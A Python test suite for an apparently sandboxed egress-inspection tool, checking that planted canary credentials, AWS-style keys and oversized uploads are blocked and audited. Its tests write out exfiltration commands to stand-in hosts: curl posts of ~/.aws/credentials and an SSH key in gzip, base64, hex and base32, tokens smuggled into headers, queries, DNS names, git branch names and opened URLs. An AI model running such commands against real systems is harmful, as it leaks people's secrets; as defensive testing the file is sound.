#!/usr/bin/env python3
"""[output]: what leaves is looked through, with real clients: the run's own canaries, credentials of known formats, the size
of a body; the same in what was changed; and what must pass."""

import base64
import json
import os
import pathlib
import shutil

from case import main, start, wait_until
from inspected import Inspected, rule
from test_egress_faults import parts, resident

CURL = "curl -sS -m 30 --http1.1 "
POST = CURL + "-o /dev/null -w '%{http_code}\\n' "
URL = "https://inspected.test:4451"
KEY = "AKIAZ3MSQ4T7NPXK2WLR"
ANY = rule("inspected.test", 4451, 'name = "any"')


class Output(Inspected):
    def run_(self, script, output, *rules, **options):
        return self.sh(script, *self.policy(*(rules or (ANY,)), rest="[output]\n" + output + "\n"), **options)

    def sightings(self):
        return [r for r in self.box.audit() if r["kind"] == "sighting"]

    def detail(self, row):
        return row["detail"] if isinstance(row["detail"], dict) else json.loads(row["detail"])


class Canaries(Output):
    ON = "canaries = true"

    def setUp(self):
        super().setUp()
        shutil.rmtree(os.path.join(self.box.home, ".aws"), ignore_errors=True)   # the box has one, and then none is planted

    def test_theyLieInTheHomeOfTheRunAndNowhereElse(self):
        done = self.ok(self.run_("cat ~/.aws/credentials; head -1 ~/.ssh/id_ed25519_backup; stat -c %a ~/.aws/credentials; echo \"$BACKUP_ACCESS_TOKEN\"; "
                                 "ls -A; echo more >> ~/.aws/credentials && echo writable", self.ON))
        self.assertIn("aws_access_key_id = AKIA", done.stdout)
        self.assertNotIn("[default]", done.stdout)
        self.assertIn("BEGIN OPENSSH PRIVATE KEY", done.stdout)
        self.assertIn("\nglpat-", done.stdout)
        self.assertIn("\n600\n", done.stdout)
        self.assertIn("writable", done.stdout, "a tool that keeps its own settings there can")
        self.assertIn("nothing was changed in the project", done.stderr)
        for place in (".aws", ".ssh/id_ed25519_backup"):
            self.assertFalse(os.path.exists(os.path.join(self.box.home, place)), "not on the host")
        token = next(line for line in done.stdout.splitlines() if line.startswith("glpat-"))
        self.assertNotIn(token, json.dumps(self.box.audit()))

    def test_aDryRunNamesThemAndHasNoValue(self):
        done = self.ok(self.box.run("true", flags=[*self.policy(ANY, rest="[output]\n" + self.ON + "\n"), "--dry-run"]))
        for place in ("canary: ~/.aws/credentials", "canary: ~/.ssh/id_ed25519_backup", "canary: $BACKUP_ACCESS_TOKEN"):
            self.assertIn(place, done.stdout)
        self.assertNotIn("glpat-", done.stdout)

    def test_whereThePersonHasSomethingNoneIsPlanted(self):
        os.makedirs(os.path.join(self.box.home, ".aws"), exist_ok=True)
        pathlib.Path(self.box.home, ".aws/credentials").write_text("[default]\n", encoding="ascii")
        self.box.environment["BACKUP_ACCESS_TOKEN"] = "mine"
        done = self.ok(self.run_("ls ~/.aws ~/.ssh 2>&1; echo \"token=$BACKUP_ACCESS_TOKEN\"", self.ON))
        self.assertIn("id_ed25519_backup", done.stdout)
        self.assertNotIn("glpat-", done.stdout)
        self.assertNotIn("AKIA", done.stdout)

    def test_noneLeavesInAnyPartOfARequest(self):
        ways = {
            "body": POST + "--data-binary @$HOME/.aws/credentials " + URL + "/ok/x",
            "body, the key": POST + "--data-binary @$HOME/.ssh/id_ed25519_backup " + URL + "/ok/x",
            "body, gzip": "gzip -c ~/.aws/credentials | " + POST + "-H 'Content-Encoding: gzip' --data-binary @- " + URL + "/ok/x",
            "body, base64": "base64 -w0 ~/.aws/credentials | " + POST + "--data-binary @- " + URL + "/ok/x",
            "body, hex": "od -An -vtx1 ~/.aws/credentials | tr -d ' \\n' | " + POST + "--data-binary @- " + URL + "/ok/x",
            "body, chunks": "cat ~/.aws/credentials | " + POST + "-T - " + URL + "/ok/x",
            "form": POST + "-F file=@$HOME/.aws/credentials " + URL + "/ok/x",
            "target": POST + URL + "/ok/$BACKUP_ACCESS_TOKEN",
            "query": POST + URL + "/ok/x?t=$BACKUP_ACCESS_TOKEN",
            "header": POST + "-H \"x-token: $BACKUP_ACCESS_TOKEN\" " + URL + "/ok/x",
            "a header's name": POST + "-H \"x-$BACKUP_ACCESS_TOKEN: 1\" " + URL + "/ok/x",
            "hex in a path": POST + URL + "/ok/$(printf %s $BACKUP_ACCESS_TOKEN | od -An -v -tx1 | tr -d ' \\n')",
            "base64 in a path": POST + URL + "/okay/$(printf %s $BACKUP_ACCESS_TOKEN | base64 -w0)",
            "body, a dump": "od -An -v -tx1 -w4096 ~/.aws/credentials | " + POST + "--data-binary @- " + URL + "/ok/x",
            "body, base32": "base32 -w0 ~/.aws/credentials | " + POST + "--data-binary @- " + URL + "/ok/x",
            "body, the second of two": "(echo x | gzip -c; gzip -c ~/.aws/credentials) | " + POST + "--data-binary @- " + URL + "/ok/x",
            "authorization": POST + "-u \"me:$BACKUP_ACCESS_TOKEN\" " + URL + "/ok/x",
        }
        done = self.run_("; ".join(ways.values()), self.ON)
        self.assertEqual(dict(zip(ways, done.stdout.split())), dict.fromkeys(ways, "403"), done.stderr)
        seen = self.sightings()
        self.assertGreaterEqual(len(seen), len(ways))
        for row in seen:
            self.assertTrue(row["reason"].startswith("canary:"), row)
            self.assertEqual(row["verdict"], "deny")
            self.assertIn("curl", row["process"])
            self.assertTrue(self.detail(row)["planted"][0] in "~$", row)
        for entry in self.asked():
            self.assertNotIn("AKIA", json.dumps(entry))
            self.assertNotIn("glpat-", json.dumps(entry))
        self.assertNotIn("glpat-", json.dumps(self.box.audit()), "the history has no value either")
        self.assertIn("a canary of this run (~/.aws/credentials) was seen in the body", done.stderr)

    def test_noneLeavesByHttp2(self):
        for _ in range(8):   # this server may answer before it has the body, and then nothing of it is sent
            done = self.run_("curl -sS -m 30 --http2 -o /dev/null -w '%{http_version} %{http_code}\\n' --data-binary @$HOME/.aws/credentials https://h2.test:4443/x",
                             self.ON, rule("h2.test", 4443, 'name = "any"'))
            self.assertNotIn(" 200", done.stdout)
            if done.stdout.strip() == "2 403":
                break
        self.assertEqual(done.stdout.strip(), "2 403", done.stderr)
        self.assertTrue(self.sightings())

    def test_noneIsLookedUpAsAName(self):
        script = """import binascii, os, socket
token = os.environ["BACKUP_ACCESS_TOKEN"]
for label in (token.lower(), binascii.hexlify(token.encode()).decode()):
    try:
        socket.getaddrinfo(label + ".inspected.test", 443); print("resolved")
    except OSError: print("no name")"""
        self.write("names.py", script)
        done = self.ok(self.run_("/usr/bin/python3 names.py", self.ON, ANY, rule("*.inspected.test", 443, 'name = "below"')))
        self.assertEqual(done.stdout.splitlines(), ["no name"] * 2)
        seen = self.sightings()
        self.assertTrue(seen)
        for row in seen:
            self.assertEqual(row["subject"], "*.inspected.test")
            self.assertEqual(self.detail(row)["where"], "name")
            self.assertIn("python3", row["process"], "who asked is named")
        self.assertEqual([n for n in self.names_asked() if "glpat" in n], [])
        self.assertIn("was seen in the name *.inspected.test", done.stderr)

    def test_noneIsTheNameOfABranch(self):
        script = ("git clone -q https://git.test:4451/git/acme/tool.git w && cd w && git -c user.name=t -c user.email=t@e.test commit -q --allow-empty -m x && "
                  "git push -q origin HEAD:refs/heads/$BACKUP_ACCESS_TOKEN; echo status=$?")
        done = self.run_(script, self.ON, rule("git.test", 4451, 'name = "any"'))
        self.assertNotIn("status=0", done.stdout, done.stderr)
        self.assertIn("ref", {self.detail(r)["where"] for r in self.sightings()})

    def test_aChangedFileWithOneIsHeldBack(self):
        done = self.ok(self.run_("cp ~/.aws/credentials leaked.txt; base64 ~/.aws/credentials > coded.txt; echo fine > fine.txt", self.ON))
        self.assertIn("leaked.txt holds a canary of this run", done.stderr)
        review = self.ok(self.box.leadglass("review", "last"))
        self.assertIn("holds a canary of this run", review.stdout)
        self.assertEqual(self.box.leadglass("apply", "last").returncode, 1, "something stays behind")
        self.assertTrue(os.path.exists(os.path.join(self.box.work, "fine.txt")))
        for name in ("leaked.txt", "coded.txt"):
            self.assertFalse(os.path.exists(os.path.join(self.box.work, name)), name)
        self.assertEqual({r["subject"] for r in self.sightings()}, {"leaked.txt", "coded.txt"})


    def test_oneInANameOrALinkIsHeldBack(self):
        done = self.ok(self.run_("echo x > name-$BACKUP_ACCESS_TOKEN; mkdir -p d/$BACKUP_ACCESS_TOKEN; echo y > d/$BACKUP_ACCESS_TOKEN/in; "
                                 "ln -s $(printf %s $BACKUP_ACCESS_TOKEN | base64 -w0) link; echo fine > fine.txt", self.ON))
        self.assertIn("holds a canary of this run, and is held back", done.stderr)
        self.assertIn("5 changes wait (4 risky)", done.stderr)
        self.assertEqual(self.box.leadglass("apply", "last").returncode, 1, "something stays behind")
        self.assertTrue(os.path.exists(os.path.join(self.box.work, "fine.txt")))
        self.assertEqual([n for n in os.listdir(self.box.work) if "glpat" in n or n == "link"], [])
        self.assertFalse(os.path.exists(os.path.join(self.box.work, "d")) and os.listdir(os.path.join(self.box.work, "d")))

    def test_noPageWithOneIsAskedFor(self):
        done = self.run_("xdg-open https://pages.example/?t=$BACKUP_ACCESS_TOKEN; xdg-open https://pages.example/$(printf %s $BACKUP_ACCESS_TOKEN | base64 -w0); "
                         "xdg-open \"https://pages.example/?redirect_uri=http://localhost:2000/$(printf %s $BACKUP_ACCESS_TOKEN | sed 's/-/%2D/')\"", self.ON)
        self.assertEqual(done.stderr.count("xdg-open: it has something in it that must not leave"), 3, done.stderr)
        self.assertEqual([r for r in self.box.audit() if r["kind"] == "question"], [])
        self.assertEqual([r["reason"] for r in self.box.audit() if r["kind"] == "open"], ["canary"] * 3)
        self.assertEqual(len(self.sightings()), 3)
        self.assertNotIn("glpat", json.dumps(self.box.audit()))


class Secrets(Output):
    def test_aCredentialIsBlockedInEveryCoding(self):
        self.write("key.txt", "aws_access_key_id = " + KEY + "\n")
        ways = [POST + "--data-binary @key.txt " + URL + "/ok/x",
                "gzip -c key.txt | " + POST + "--data-binary @- " + URL + "/ok/x",
                "gzip -c key.txt | base64 | " + POST + "--data-binary @- " + URL + "/ok/x",
                POST + URL + "/ok/x?k=" + KEY]
        done = self.run_("; ".join(ways), 'secrets = "block"')
        self.assertEqual(done.stdout.split(), ["403"] * len(ways), done.stderr)
        self.assertEqual({r["reason"] for r in self.sightings()}, {"aws-access-key-id"})
        self.assertNotIn(KEY, json.dumps(self.asked()))
        self.assertNotIn(KEY, json.dumps(self.box.audit()))

    def test_itIsReplacedOrOnlyToldWhereThePolicySaysSo(self):
        self.write("key.txt", "id " + KEY + " end\n")
        send = CURL + "--data-binary @key.txt " + URL + "/ok/x"
        self.ok(self.run_(send, 'secrets = "redact"'))
        self.assertEqual(self.asked()[-1]["body"], "id " + "*" * len(KEY) + " end\n")
        self.ok(self.run_(send, 'secrets = "flag"'))
        self.assertEqual(self.asked()[-1]["body"], "id " + KEY + " end\n")
        self.assertEqual([r["verdict"] for r in self.sightings()][-1], "")

    def test_whatOnlyLooksLikeOnePasses(self):
        lock = {"packages": {f"node_modules/word-{i}": {"version": f"1.0.{i}", "resolved": f"https://packages.test/word-{i}/-/word-{i}-1.0.{i}.tgz",
                                                        "integrity": "sha512-" + base64.b64encode(os.urandom(64)).decode()} for i in range(2000)}}
        self.write("package-lock.json", json.dumps(lock, indent=1))
        pathlib.Path(self.box.work, "picture.bin").write_bytes(os.urandom(1 << 20))
        ids = "".join(f"{os.urandom(16).hex()} {os.urandom(20).hex()}\n" for _ in range(5000))
        self.write("ids.txt", ids)
        names = ("package-lock.json", "picture.bin", "ids.txt")
        done = self.ok(self.run_("; ".join(POST + f"--data-binary @{n} {URL}/ok/{n}; base64 {n} | " + POST + f"--data-binary @- {URL}/ok/{n}" for n in names),
                                 'secrets = "block"\ncanaries = true'))
        self.assertEqual(done.stdout.split(), ["200"] * 6, done.stderr)
        self.assertEqual(self.sightings(), [])

    def test_aLargeUploadIsLookedThroughInConstantMemory(self):
        size = 100 << 20
        script = f"sleep 1; head -c {size} /dev/urandom | {CURL.replace('30', '170')} -T - {URL}/ok/large; sleep 60"
        flags = self.policy(ANY, rest='[output]\nsecrets = "block"\ncanaries = true\n')
        run = start(self.box, "sh", "-c", script, flags=flags)
        self.addCleanup(run.wait)
        self.addCleanup(run.kill)
        most = 0
        self.assertTrue(wait_until(lambda: parts("leadglass-inspect", run.pid), 30))

        def uploaded():
            nonlocal most
            for pid in parts("leadglass-inspect", run.pid):
                most = max(most, resident(pid))
            return bool(self.asked())

        self.assertTrue(wait_until(uploaded, 180))
        self.assertEqual(self.asked()[-1]["size"], size)
        self.assertLess(most, (1024 if "ASAN_OPTIONS" in os.environ else 48) << 20, "constant memory")

    def test_aChangedFileWithACredentialIsHeldBack(self):
        self.write("make.sh", "mkdir -p d; echo 'k = " + KEY + "' | gzip > d/data.gz; echo fine > fine.txt; head -c 100M /dev/zero | gzip > bomb.gz\n")
        self.ok(self.run_("sh make.sh", 'secrets = "flag"'))
        review = self.ok(self.box.leadglass("review", "last"))
        self.assertRegex(review.stdout, r"bomb\.gz\n +risky: larger, or unpacks to more, than is looked through for secrets")
        self.assertIn("looks like it holds a secret: aws-access-key-id, encoded", review.stdout)
        self.assertEqual(self.box.leadglass("apply", "last").returncode, 1, "something stays behind")
        self.assertTrue(os.path.exists(os.path.join(self.box.work, "fine.txt")))
        self.assertFalse(os.path.exists(os.path.join(self.box.work, "d/data.gz")))


class Size(Output):
    def test_aLargerBodyIsRefusedWhicheverWayItIsSent(self):
        script = "head -c 1000 /dev/zero > small; head -c 1025 /dev/zero > big; " + "; ".join(
            POST + f"{how} {URL}/ok/x" for how in ("--data-binary @small", "--data-binary @big", "-T - < big")) + \
            "; " + CURL + f"--data-binary @big {URL}/ok/x"
        done = self.run_(script, 'max_bytes = "1KiB"')
        self.assertEqual(done.stdout.split()[:3], ["200", "413", "413"], done.stderr)
        self.assertIn("more than the policy lets out in one request", done.stdout)
        self.assertIn("its body is larger than [output] lets out in one request", done.stderr)
        self.assertIn("max_bytes", done.stderr)
        self.assertTrue([r for r in self.requests("deny") if r["reason"] == "body_too_large"])
        ends = [self.detail(r).get("failure") for r in self.box.audit() if r["kind"] == "request_end"]
        self.assertIn("body_too_large", ends)


class Said(Output):
    def test_whatIsNotLookedIntoIsSaid(self):
        rules = (ANY, rule("pinned.test", 4451, "inspect = false"))
        flags = self.policy(*rules, rest='[output]\nsecrets = "block"\n')
        self.write("key.txt", KEY)
        plan = self.ok(self.box.run("true", flags=[*flags, "--dry-run"])).stdout
        self.assertIn("not looked into: pinned.test", plan)
        self.assertIn("inspected: whatever is reached", plan)
        profile = flags[-1]
        check = self.ok(self.box.leadglass("policy", "check", profile))
        self.assertNotIn("not enforced", check.stdout)
        show = self.ok(self.box.leadglass("policy", "show", "--profile", profile))
        self.assertIn("pinned.test", show.stdout)
        explain = self.box.leadglass("policy", "explain", "pinned.test:4451", "--profile", profile)
        self.assertIn("[output] does not look into this connection: its rule says inspect = false", explain.stdout)
        done = self.ok(self.sh("curl -sS -m 10 --cacert ca.pem --capath /tmp --data-binary @key.txt https://pinned.test:4451/ok/x", *flags))
        self.assertIn("inspected-answer", done.stdout)


if __name__ == "__main__":
    main(lab=True)
